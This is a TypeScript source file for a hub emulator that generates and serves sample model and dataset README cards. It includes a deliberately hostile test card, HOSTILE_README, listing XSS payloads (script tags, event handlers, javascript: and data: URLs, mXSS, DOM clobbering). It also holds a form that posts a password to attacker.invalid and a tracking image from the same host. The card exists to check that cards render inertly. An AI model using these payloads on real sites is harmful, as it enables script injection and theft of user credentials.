import { Hono } from "hono";
import {
  defaultDatasetCatalogue,
  type HubDataset,
  type HubDatasetCatalogue,
} from "../hub-datasets/catalogue";
import { cardBannerPng } from "./card-image";
import { buildCatalogue, defaultHubCatalogue, type HubCatalogue, type HubModel } from "./catalogue";
import { entryNotFound, HubHttpError, repoNotFound, revisionNotFound } from "./errors";

/**
 * A repo's card, `README.md`, as the hub serves the file (`GET /{repo_id}/resolve/{rev}/README.md`): YAML
 * front matter (the catalogue's `cardData`), a title, an image, a summary paragraph, tables (details, eval
 * results, splits) and code blocks (usage). The catalogue has no card text, so the emulator writes it from
 * the catalogue's own fields (task, owner, base model, datasets, languages, licence, library, model-index);
 * an HTML comment and a quoted note at the top say so. It is not the repo's real README.
 */

/** A YAML scalar: plain when safe, else JSON-quoted (a JSON string is a valid YAML double-quoted scalar). */
function scalar(value: unknown): string {
  if (typeof value === "number" || typeof value === "boolean") return String(value);
  const text = String(value);
  return /^[\w][\w .:/+-]*$/.test(text) && !/^(true|false|null|yes|no|~)$/i.test(text) && !/:\s/.test(text)
    ? text
    : JSON.stringify(text);
}

/** Block YAML for card data: scalars, lists of scalars or maps, and (nested) maps of those. */
function yaml(data: Record<string, unknown>, indent = ""): string {
  const lines: string[] = [];
  for (const [key, value] of Object.entries(data)) {
    if (value === null || value === undefined) continue;
    if (Array.isArray(value)) {
      lines.push(`${indent}${key}:`);
      for (const item of value) {
        if (item !== null && typeof item === "object" && !Array.isArray(item)) {
          // A map in a list: its first key on the `- ` line, the rest under it.
          const inner = yaml(item as Record<string, unknown>, `${indent}  `);
          lines.push(`${indent}- ${inner.slice(indent.length + 2)}`);
        } else lines.push(`${indent}- ${scalar(item)}`);
      }
    } else if (typeof value === "object") {
      lines.push(`${indent}${key}:`, yaml(value as Record<string, unknown>, `${indent}  `));
    } else {
      lines.push(`${indent}${key}: ${scalar(value)}`);
    }
  }
  return lines.join("\n");
}

const list = (value: unknown): string[] =>
  (Array.isArray(value) ? value : value === undefined || value === null ? [] : [value]).map(String);

function joined(items: string[]): string {
  if (items.length <= 1) return items.join("");
  return `${items.slice(0, -1).join(", ")} and ${items.at(-1)}`;
}

/** The card's summary paragraph, written from the catalogue's fields. */
export function modelCardSummary(model: HubModel): string {
  const card = model.cardData ?? {};
  const task = model.pipeline_tag ? `${model.pipeline_tag.replaceAll("-", " ")} model` : "model";
  const sentences = [`${model.id} is a ${task} published by ${model.author}.`];
  const bases = list(card.base_model);
  if (bases.length > 0) sentences.push(`It is derived from ${joined(bases)}.`);
  const modelType = typeof model.config?.model_type === "string" ? model.config.model_type : undefined;
  if (modelType) sentences.push(`Its architecture is ${modelType}.`);
  const datasets = list(card.datasets);
  if (datasets.length > 0) sentences.push(`Its card lists the data ${joined(datasets)}.`);
  const languages = list(card.language);
  if (languages.length > 0) {
    const shown =
      languages.length > 8 ? [...languages.slice(0, 8), `${languages.length - 8} more`] : languages;
    sentences.push(`Language${languages.length > 1 ? "s" : ""}: ${joined(shown)}.`);
  }
  if (model.library_name) sentences.push(`Library: ${model.library_name}.`);
  if (model.license) sentences.push(`License: ${model.license}.`);
  return sentences.join(" ");
}

/** A usage code block for the model's library (the snippet its hub page shows, in Markdown). */
function usageBlock(model: HubModel): string {
  const id = model.id;
  switch (model.library_name) {
    case "sentence-transformers":
      return [
        "```python",
        "from sentence_transformers import SentenceTransformer",
        "",
        `model = SentenceTransformer("${id}")`,
        'embeddings = model.encode(["The weather is lovely today.", "It is sunny outside!"])',
        "print(embeddings.shape)",
        "```",
      ].join("\n");
    case "diffusers":
      return [
        "```python",
        "import torch",
        "from diffusers import DiffusionPipeline",
        "",
        `pipe = DiffusionPipeline.from_pretrained("${id}", torch_dtype=torch.float16)`,
        'image = pipe("An astronaut riding a green horse").images[0]',
        "```",
      ].join("\n");
    case "timm":
      return [
        "```python",
        "import timm",
        "",
        `model = timm.create_model("hf_hub:${id}", pretrained=True)`,
        "model.eval()",
        "```",
      ].join("\n");
    case "transformers":
      return [
        "```python",
        "from transformers import pipeline",
        "",
        `pipe = pipeline(${model.pipeline_tag ? `"${model.pipeline_tag}", ` : ""}model="${id}")`,
        "```",
      ].join("\n");
    default:
      return [
        "```python",
        "from huggingface_hub import snapshot_download",
        "",
        `path = snapshot_download(repo_id="${id}")`,
        "```",
      ].join("\n");
  }
}

/** A Markdown table cell: pipes escaped, on one line. */
const cell = (value: unknown) => String(value).replaceAll("|", "\\|").replace(/\s+/g, " ");

/** Rows of a Markdown table. */
function table(header: string[], rows: unknown[][]): string {
  return [
    `| ${header.map(cell).join(" | ")} |`,
    `| ${header.map(() => "---").join(" | ")} |`,
    ...rows.map((row) => `| ${row.map(cell).join(" | ")} |`),
  ].join("\n");
}

/** The eval results of the catalogue's `model-index`, as table rows (dataset, split, metric, value). */
function evalRows(modelIndex: unknown): unknown[][] {
  const rows: unknown[][] = [];
  for (const entry of Array.isArray(modelIndex) ? modelIndex : []) {
    for (const result of Array.isArray(entry?.results) ? entry.results : []) {
      const dataset = result?.dataset ?? {};
      const name = [dataset.name ?? dataset.type, dataset.config].filter(Boolean).join(" / ");
      for (const metric of Array.isArray(result?.metrics) ? result.metrics : []) {
        const value = typeof metric?.value === "number" ? Number(metric.value.toFixed(4)) : metric?.value;
        if (value === undefined || value === null) continue;
        rows.push([name || "n/a", dataset.split ?? "n/a", metric.name ?? metric.type ?? "n/a", value]);
      }
    }
  }
  return rows;
}

/** The emulator's note at the top of every card it writes (a quote block: not a summary paragraph). */
const SAMPLE_NOTE =
  "> **Sample card.** Written by the Hiber hub emulator from this repository's catalogue metadata; it is not the repository's own README.";

/** The whole `README.md` of a model, or `undefined` when the catalogue has no card data for it (no card). */
export function modelReadme(model: HubModel): string | undefined {
  if (model.id === HOSTILE_CARD_MODEL) return HOSTILE_README;
  if (!model.cardData || Object.keys(model.cardData).length === 0) return undefined;
  const front = `---\n${yaml(model.cardData)}\n---\n\n`;
  const name = model.id.split("/").pop() ?? model.id;
  const card = model.cardData;
  const details: unknown[][] = [["Developed by", model.author]];
  if (model.pipeline_tag) details.push(["Task", model.pipeline_tag]);
  const modelType = model.config?.model_type;
  if (typeof modelType === "string") details.push(["Architecture", modelType]);
  if (model.safetensors) details.push(["Parameters", model.safetensors.total.toLocaleString("en-US")]);
  if (model.library_name) details.push(["Library", model.library_name]);
  if (model.license) details.push(["License", model.license]);
  const languages = list(card.language);
  if (languages.length > 0) details.push(["Languages", languages.join(", ")]);
  const bases = list(card.base_model);
  if (bases.length > 0)
    details.push(["Base model", bases.map((b) => `[${b}](https://huggingface.co/${b})`).join(", ")]);
  const evals = evalRows(model.modelIndex);
  const datasets = list(card.datasets);
  return [
    `${front}<!-- Written by the Hiber hub emulator from its catalogue's metadata; not the repository's own card. -->`,
    `# ${name}`,
    `![${name}](card-banner.png)`,
    SAMPLE_NOTE,
    modelCardSummary(model),
    "## Model details",
    table(["Field", "Value"], details),
    ...(evals.length > 0
      ? ["## Evaluation results", table(["Dataset", "Split", "Metric", "Value"], evals)]
      : []),
    "## How to use",
    model.library_name === "transformers" || !model.library_name
      ? "Install the library, then load the model:"
      : `Install \`${model.library_name}\`, then load the model:`,
    ["```bash", `pip install -U ${model.library_name ?? "huggingface_hub"}`, "```"].join("\n"),
    usageBlock(model),
    ...(datasets.length > 0
      ? ["## Training data", datasets.map((d) => `- [${d}](https://huggingface.co/datasets/${d})`).join("\n")]
      : []),
    "## Limitations",
    "This sample card lists only what the hub's metadata says. Read the repository's own card on Hugging Face for its intended uses, limitations and biases.",
    "",
  ].join("\n\n");
}

/**
 * The emulated model whose card is hostile: every way a README could try to run script or leak
 * (script, event handlers, `javascript:` and `data:` URLs, frames, SVG, forms, inline styles, a meta
 * refresh). The model exists only for its info and card (not in any list); the app must render the card
 * inertly. Each payload that runs would set `window.__hiberHostileCard` or open a dialog.
 */
export const HOSTILE_CARD_MODEL = "hiber-emulator/hostile-card";

/** The hostile model's info: reachable by id (info, card), listed nowhere. */
function hostileModel(snapshotDate: string): HubModel | undefined {
  return buildCatalogue({
    snapshotDate,
    models: [
      {
        id: HOSTILE_CARD_MODEL,
        author: "hiber-emulator",
        pipeline_tag: "text-classification",
        library_name: "transformers",
        tags: ["transformers", "text-classification", "license:mit"],
        license: "mit",
        gated: false,
        downloads: 0,
        likes: 0,
        createdAt: `${snapshotDate}T00:00:00.000Z`,
        lastModified: `${snapshotDate}T00:00:00.000Z`,
        cardData: { license: "mit", pipeline_tag: "text-classification" },
      },
    ],
  }).models[0];
}

/** The catalogue, with the hostile card's model findable by id (and in no list). */
export function withHostileCardModel(catalogue: HubCatalogue): HubCatalogue {
  const hostile = hostileModel(catalogue.snapshotDate);
  return { ...catalogue, get: (id) => (id === HOSTILE_CARD_MODEL ? hostile : catalogue.get(id)) };
}

export const HOSTILE_README = `---
license: mit
pipeline_tag: text-classification
tags:
- "<img src=x onerror=window.__hiberHostileCard=1>"
---

# Hostile card

This card tries every trick a README can play. Rendered safely, it is plain text and harmless markup.

<script>window.__hiberHostileCard = "script"; alert("script")</script>

<img src="x" onerror="window.__hiberHostileCard = 'img onerror'; alert('img')" alt="broken image">

<a href="javascript:window.__hiberHostileCard='javascript link';alert('link')">A javascript: link</a>

[A markdown javascript: link](javascript:window.__hiberHostileCard='md-link')

<iframe src="javascript:parent.__hiberHostileCard='iframe'"></iframe>

<iframe srcdoc="<script>parent.__hiberHostileCard='srcdoc'</script>"></iframe>

<svg onload="window.__hiberHostileCard='svg onload'"><circle r="10"></circle></svg>

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">A data: URL link</a>

<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="data svg">

<p style="position:fixed;inset:0;background:red;z-index:9999" onclick="window.__hiberHostileCard='click'">A styled paragraph that would cover the page.</p>

<form action="https://attacker.invalid/steal"><input name="password" value="secret"><button>Send</button></form>

<meta http-equiv="refresh" content="0;url=javascript:window.__hiberHostileCard='meta'">

<object data="javascript:window.__hiberHostileCard='object'"></object>

<details open ontoggle="window.__hiberHostileCard='ontoggle'"><summary>Details with ontoggle</summary>Body.</details>

<math><mtext><table><mglyph><style><img src=x onerror="window.__hiberHostileCard='mxss'"></style></mglyph></table></mtext></math>

<a id="location" name="cookie" href="#x">A clobbering id</a>

![An outside image](https://attacker.invalid/track.png)

## After the payloads

If you can read this, the rest of the card rendered too.
`;

/** The whole `README.md` of a dataset: front matter (its `cardData`), its description, splits and usage. */
export function datasetReadme(dataset: HubDataset): string | undefined {
  if (!dataset.description) return undefined;
  const name = dataset.id.split("/").pop() ?? dataset.id;
  const splits = dataset.configs.flatMap((config) =>
    config.splits.map((split) => [config.name, split.name, split.numRows.toLocaleString("en-US")]),
  );
  const config = dataset.configs[0]?.name;
  return [
    `---\n${yaml(dataset.cardData)}\n---\n\n<!-- Written by the Hiber hub emulator from its catalogue's metadata; not the repository's own card. -->`,
    `# Dataset card for ${dataset.cardData.pretty_name ?? name}`,
    `![${name}](card-banner.png)`,
    SAMPLE_NOTE,
    dataset.description,
    ...(splits.length > 0 ? ["## Dataset structure", table(["Config", "Split", "Rows"], splits)] : []),
    "## How to use",
    [
      "```python",
      "from datasets import load_dataset",
      "",
      `ds = load_dataset("${dataset.id}"${config && config !== "default" ? `, "${config}"` : ""})`,
      "print(ds)",
      "```",
    ].join("\n"),
    ...(dataset.citation ? ["## Citation", ["```bibtex", dataset.citation.trim(), "```"].join("\n")] : []),
    "",
  ].join("\n\n");
}

const FULL_SHA = /^[0-9a-f]{40}$/;

/** A revision the emulator serves files at: `main`, `HEAD` or a 40-hex commit (else 404 `RevisionNotFound`). */
function checkRevision(rev: string): void {
  if (rev !== "main" && rev !== "HEAD" && !FULL_SHA.test(rev)) throw revisionNotFound(rev);
}

/**
 * `GET /{repo_id}/resolve/{rev}/README.md` (and `/raw/`) for the catalogue's models, and
 * `/datasets/{repo_id}/…/README.md` for its datasets, as a Hono sub-app to mount on the hub app; also each
 * card's image, `card-banner.png`, beside it. `rev` is `main`, `HEAD` or a 40-hex commit (echoed in
 * `X-Repo-Commit`); an unknown repo is the hub's 401 `RepoNotFound`, another revision a 404
 * `RevisionNotFound`, a repo without a card (no card data in the catalogue) a 404 `EntryNotFound`.
 */
export function createModelCardRoutes(
  options: { catalogue?: HubCatalogue; datasetCatalogue?: HubDatasetCatalogue } = {},
): Hono {
  const catalogue = options.catalogue ?? defaultHubCatalogue;
  const datasets = options.datasetCatalogue ?? defaultDatasetCatalogue();
  const routes = new Hono();
  const repos = [
    { prefix: "", find: (id: string) => catalogue.get(id), readme: modelReadme },
    { prefix: "/datasets", find: (id: string) => datasets.get(id), readme: datasetReadme },
  ] as const;
  for (const { prefix, find, readme } of repos) {
    for (const verb of ["resolve", "raw"]) {
      const at = `${prefix}/:owner/:name/${verb}/:rev`;
      routes.get(`${at}/README.md`, (c) => {
        const repo = find(`${c.req.param("owner")}/${c.req.param("name")}`);
        const rev = c.req.param("rev") ?? "";
        if (!repo) throw repoNotFound();
        checkRevision(rev);
        // biome-ignore lint/suspicious/noExplicitAny: the pair (find, readme) agrees on the repo's type
        const text = (readme as (repo: any) => string | undefined)(repo);
        if (text === undefined) throw entryNotFound();
        return new Response(text, {
          headers: {
            "Content-Type": "text/markdown; charset=utf-8",
            "X-Repo-Commit": FULL_SHA.test(rev) ? rev : repo.sha,
          },
        });
      });
      routes.get(`${at}/card-banner.png`, (c) => {
        const id = `${c.req.param("owner")}/${c.req.param("name")}`;
        if (!find(id)) throw repoNotFound();
        checkRevision(c.req.param("rev") ?? "");
        return new Response(new Uint8Array(cardBannerPng(`${prefix}${id}`)), {
          headers: { "Content-Type": "image/png", "Cache-Control": "public, max-age=86400" },
        });
      });
    }
  }
  routes.onError((error) => {
    if (error instanceof HubHttpError) return error.toResponse();
    throw error;
  });
  return routes;
}
